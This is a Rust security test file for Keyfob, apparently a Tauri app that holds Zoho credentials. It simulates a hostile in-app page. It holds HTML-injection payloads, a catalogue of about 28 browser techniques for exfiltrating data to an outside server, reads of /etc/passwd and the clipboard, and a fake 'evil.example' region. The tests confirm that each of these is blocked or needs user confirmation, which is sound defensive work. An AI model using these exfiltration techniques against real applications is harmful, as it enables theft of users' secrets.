//! A hostile page in Keyfob's own window: it calls every command, and requests everything from other servers.
#![allow(clippy::disallowed_methods, clippy::disallowed_types, reason = "a test looks at secrets and the world")]

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, ErrorKind};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::time::{Duration, Instant};

use keyfob_practice::{Endpoint, Scripted};
use serde_json::{Value, json};

use crate::dialog;
use crate::fixture::World;
use crate::patience::until;
use crate::proof;
use crate::scan::in_bytes;
use crate::stage::Theme;
use crate::window::Window;

const PATIENCE: Duration = Duration::from_secs(20);

/// Every command of Tauri and its plugins, from the build's manifest.
fn commands() -> Vec<String> {
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("gen/schemas/acl-manifests.json");
    let manifests: Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    let mut commands = Vec::new();
    for (plugin, manifest) in manifests.as_object().unwrap() {
        for permission in manifest["permissions"].as_object().unwrap().values() {
            let allowed = permission["commands"]["allow"].as_array().unwrap();
            let named = |command: &Value| match plugin.as_str() {
                "__app-acl__" => command.as_str().unwrap().to_owned(),
                _ => format!("plugin:{}|{}", plugin.trim_start_matches("core:"), command.as_str().unwrap()),
            };
            commands.extend(allowed.iter().map(named));
        }
    }
    commands.sort();
    commands.dedup();
    commands
}

// Shows T8.
#[tokio::test]
async fn of_all_commands_two_answer_without_a_secret() {
    let world = World::new(Theme::Light);
    let window = Window::open(&world.stage).await;
    world.connects(&window).await;
    let commands = commands();
    assert!(commands.len() > 100 && commands.contains(&"plugin:event|listen".to_owned()), "{}", commands.len());

    let asks = format!(
        "const done = arguments[0], tauri = window.__TAURI_INTERNALS__, answers = {{}}, pictures = [];
         const channel = '__CHANNEL__:' + tauri.transformCallback(picture => pictures.push(JSON.stringify(picture)));
         const everything = {{ intent: {{ machine: 'checks', intent: 'test', id: 1 }}, pictures: channel, event: 'deep-link://new-url',
           target: {{ kind: 'Any' }}, handler: tauri.transformCallback(() => {{}}), label: 'main', url: 'https://evil.example',
           path: '/etc/passwd', text: 'x', rid: 1, options: {{}}, value: true, payload: null }};
         Promise.all({}.map(async command => {{
           try {{ answers[command] = JSON.stringify(await tauri.invoke(command, everything)) ?? 'nothing'; }}
           catch (refused) {{ answers[command] = 'refused: ' + refused; }}
         }})).then(() => setTimeout(() => done({{ answers, pictures }}), 500))",
        json!(commands)
    );
    let told = window.script_async(&asks).await;
    let answers: BTreeMap<String, String> = serde_json::from_value(told["answers"].clone()).unwrap();
    let answered: Vec<&str> = answers
        .iter()
        .filter(|(_, answer)| !answer.starts_with("refused: "))
        .map(|(command, _)| command.as_str())
        .collect();
    proof::figure("commands a hostile page may call", format!("{} of {}", answered.len(), commands.len()), "2");
    assert_eq!(answered, ["dispatch", "snapshot"]);
    assert!(told["pictures"].as_array().is_some_and(|pictures| !pictures.is_empty()), "the snapshot arrived");
    assert_eq!(in_bytes(&world.secrets(), "an answer", told.to_string().as_bytes()), []);
    window.close(&world.stage).await;
}

// Shows T8.
#[tokio::test]
async fn nothing_is_fetched_from_other_servers() {
    let world = World::new(Theme::Light);
    let elsewhere = TcpListener::bind("127.0.0.1:0").unwrap();
    elsewhere.set_nonblocking(true).unwrap();
    let port = elsewhere.local_addr().unwrap().port();
    let nobody_came = |of: &str| {
        let came = elsewhere.accept().map(|(guest, _)| first_line(guest)).map_err(|nobody| nobody.kind());
        assert_eq!(came, Err(ErrorKind::WouldBlock), "{of}");
    };

    // A name and an error are text, whatever their source.
    let markup = |of: &str| format!("<img id=planted src=//127.0.0.1:{port}/{of}>");
    let identity = json!({ "Email": markup("mail"), "Display_Name": markup("name"), "ZUID": 1 });
    let window = Window::open(&world.stage).await;
    world.fill_in(&window).await;
    world.zoho.answer_next(Endpoint::UserInfo, Scripted::json(200, &identity.to_string()));
    world.go_to_consent(&window).await.clicks("#accept").await;
    window.reads_at_last("email", &markup("mail")).await;
    window.types("connection-name", &markup("own")).await;
    window.clicks("keep").await;
    window.clicks("done").await;
    window.clicks("open-card").await;
    world.zoho.answer_next(Endpoint::Token, Scripted::json(400, &json!({ "error": markup("error") }).to_string()));
    window.clicks("refresh").await;
    for of in ["own", "mail", "error"] {
        window.reads_at_last("connection", &markup(of)).await;
    }
    assert_eq!(window.script("return document.querySelectorAll('#planted').length").await, json!(0));
    nobody_came("markup");

    // A script that runs in the page already.
    let ways = window.script(&format!("const at = ''; {WAYS} return Object.keys(ways)")).await;
    let ways: Vec<String> = serde_json::from_value(ways).unwrap();
    for way in &ways {
        let tries = format!("const at = 'http://127.0.0.1:{port}/'; {WAYS} const way = ways['{way}']; {TRY}");
        let came_of_it = window.script_async(&tries).await;
        assert_ne!(came_of_it, "done", "{way}");
        nobody_came(way);
    }
    assert_eq!(window.script("return location.href").await.as_str().unwrap().split('/').next(), Some("tauri:"));
    proof::figure("requests by a hostile page to a server elsewhere", format!("0 in {} ways", ways.len()), "0");

    // Requests would have been noticed.
    let _visit = TcpStream::connect(("127.0.0.1", port)).unwrap();
    until("a visit is seen", PATIENCE, || elsewhere.accept().is_ok());
    window.close(&world.stage).await;
}

// Shows T23, T24; ASVS 13.2.2.
#[tokio::test]
async fn intents_alone_read_no_clipboard_and_reveal_no_secret() {
    const PRIVATE: &str = "my-bank-password-hunter2";
    let world = World::new(Theme::Light);
    let (stage, window) = (&world.stage, Window::open(&world.stage).await);
    world.connects(&window).await;

    // Text copied elsewhere, and a token that Keyfob copied, stay out of the snapshot.
    stage.copies(PRIVATE);
    asks(&window, &json!({ "machine": "signIn", "intent": "start" })).await;
    asks(&window, &json!({ "machine": "signIn", "intent": "chooseRegion", "region": "eu" })).await;
    asks(&window, &json!({ "machine": "signIn", "intent": "goTo", "step": "credentials" })).await;
    for field in ["clientId", "clientSecret", "code", "address"] {
        asks(&window, &json!({ "machine": "signIn", "intent": "paste", "field": field })).await;
    }
    window.reads_at_last("step-credentials", "does not hold").await;
    asks(&window, &json!({ "machine": "share", "intent": "copy", "id": 1, "shape": "token" })).await;
    until("the token is copied", PATIENCE, || stage.clipboard().as_deref() == Some(&world.newest_token()));
    asks(&window, &json!({ "machine": "signIn", "intent": "paste", "field": "clientId" })).await;
    window.reads_at_last("step-credentials", "a secret that Keyfob keeps").await;
    stage.photograph_as("not-pasted");
    let told = window.everything().await;
    assert!(!told.contains(PRIVATE));
    assert_eq!(in_bytes(&world.secrets(), "the page", told.as_bytes()), []);

    // An intent that reveals a secret or names a server waits for the user, who declines.
    let region = json!({ "code": "evil", "name": "Helpful", "accounts": "https://signin.evil.example",
        "api": "https://api.evil.example", "cliq": "https://chat.evil.example", "console": "https://www.evil.example" });
    for (intent, question) in [
        (
            json!({ "machine": "share", "intent": "copy", "id": 1, "shape": "refreshToken" }),
            "Copy the refresh token of",
        ),
        (json!({ "machine": "cli", "intent": "allowScripts", "id": 1, "on": true }), "May scripts read"),
        (json!({ "machine": "app", "intent": "addRegion", "form": region }), "Add the region"),
        (
            json!({ "machine": "share", "intent": "export", "id": 1, "export": { "format": "json", "refreshToken": true, "clientSecret": true } }),
            "Save secrets of",
        ),
    ] {
        asks_until(&window, &intent, || stage.in_front().starts_with(question)).await;
        stage.photograph_as(&format!("confirm-{}", intent["intent"].as_str().unwrap()));
        dialog::dismisses(stage, question);
    }
    assert_eq!(stage.clipboard(), Some(world.newest_token()));
    assert!(!window.everything().await.contains("evil.example"));

    // The same question; the user accepts.
    let copies = json!({ "machine": "share", "intent": "copy", "id": 1, "shape": "refreshToken" });
    asks_until(&window, &copies, || stage.in_front().starts_with("Copy the refresh token of")).await;
    dialog::answers(stage, "Copy the refresh token of", 'C');
    until("the refresh token is copied", PATIENCE, || {
        stage.clipboard().is_some_and(|held| held != world.newest_token())
    });
    window.close(stage).await;
}

/// Repeats the intent until Keyfob asks the user: after several dismissed questions the next one is delayed.
async fn asks_until(window: &Window, intent: &Value, is_asked: impl Fn() -> bool) {
    let end = Instant::now() + PATIENCE;
    while !is_asked() {
        assert!(Instant::now() < end, "the user is not asked about {intent}");
        asks(window, intent).await;
    }
}

/// Dispatches an intent from a script in the page.
async fn asks(window: &Window, intent: &Value) {
    let ask =
        format!("return window.__TAURI_INTERNALS__.invoke('dispatch', {{ intent: {intent} }}).then(() => 'asked')");
    assert_eq!(window.script(&ask).await, json!("asked"), "{intent}");
}

/// Returns the first line that a client sends, if any.
fn first_line(guest: TcpStream) -> String {
    guest.set_nonblocking(false).unwrap();
    guest.set_read_timeout(Some(Duration::from_secs(1))).unwrap();
    let mut line = String::new();
    let _ = BufReader::new(guest).read_line(&mut line);
    line
}

/// The ways in which a page may try to send data out; "done" must be the result of none.
const WAYS: &str = "
const add = (name, attributes, into = document.body) => new Promise(end => {
  const element = Object.assign(document.createElement(name), attributes);
  element.onload = () => end('loaded'); element.onerror = () => end('error');
  into.append(element); setTimeout(() => end('nothing'), 300);
});
const ways = {
  fetch: async () => { await fetch(at + 'fetch', { mode: 'no-cors' }); return 'done'; },
  xhr: () => new Promise(end => { const x = new XMLHttpRequest(); x.onload = () => end('done'); x.onerror = () => end('error');
    x.open('GET', at + 'xhr'); x.send(); }),
  beacon: async () => navigator.sendBeacon(at + 'beacon', 'x') && 'said to be sent',
  socket: () => new Promise(end => { const s = new WebSocket(at.replace('http', 'ws') + 'socket'); s.onopen = () => end('done'); s.onerror = () => end('error'); }),
  events: () => new Promise(end => { const s = new EventSource(at + 'e'); s.onopen = () => end('done'); s.onerror = () => end('error'); }),
  image: () => add('img', { src: at + 'image' }),
  script: () => add('script', { src: at + 'script' }),
  module: async () => { await import(at + 'module.js'); return 'done'; },
  worker: async () => { new Worker(at + 'worker.js'); return 'begun'; },
  style: () => add('link', { rel: 'stylesheet', href: at + 'style' }, document.head),
  prefetch: () => add('link', { rel: 'prefetch', href: at + 'prefetch' }, document.head),
  inline: async () => { await add('script', { textContent: 'window.inlineRan = 1' }); return window.inlineRan ? 'done' : 'not run'; },
  styled: () => add('style', { textContent: 'body { background: url(' + at + 'css) }' }, document.head),
  frame: () => add('iframe', { src: at + 'frame' }),
  object: () => add('object', { data: at + 'object' }),
  video: () => add('video', { src: at + 'video', autoplay: true }),
  refresh: () => add('meta', { httpEquiv: 'refresh', content: '0;url=' + at + 'refresh' }, document.head),
  ping: async () => { const a = Object.assign(document.createElement('a'), { href: '#', ping: at + 'ping' }); document.body.append(a); a.click(); return 'pressed'; },
  download: async () => { const a = Object.assign(document.createElement('a'), { href: at + 'download', download: 'x' }); document.body.append(a); a.click(); return 'pressed'; },
  form: async () => { const f = Object.assign(document.createElement('form'), { action: at + 'form', method: 'post' }); document.body.append(f); f.submit(); return 'sent off'; },
  open: async () => window.open(at + 'open') ? 'done' : 'no window',
  evaluate: async () => (0, eval)('1') === 1 ? 'done' : 'odd',
  constructed: async () => new Function('return 1')() === 1 ? 'done' : 'odd',
  clipboard: async () => { await navigator.clipboard.readText(); return 'done'; },
  pasting: async () => document.execCommand('paste') ? 'done' : 'no',
  ipc: async () => { const answer = await fetch('ipc://localhost/snapshot', { method: 'POST', body: '{}' }); return answer.ok ? 'done' : 'refused'; },
  away: async () => { location.href = at + 'away'; return 'asked for'; },
  elsewhere: async () => { location.assign('file:///etc/passwd'); return 'asked for'; },
};
";

/// Tries one way, and waits a moment for its effects.
const TRY: &str = "
const done = arguments[0];
const late = new Promise(end => setTimeout(() => end('nothing'), 1500));
const told = (async () => { try { return String(await way()); } catch (refused) { return 'refused: ' + refused; } })();
Promise.race([told, late]).then(came => setTimeout(() => done(came), 200));
";
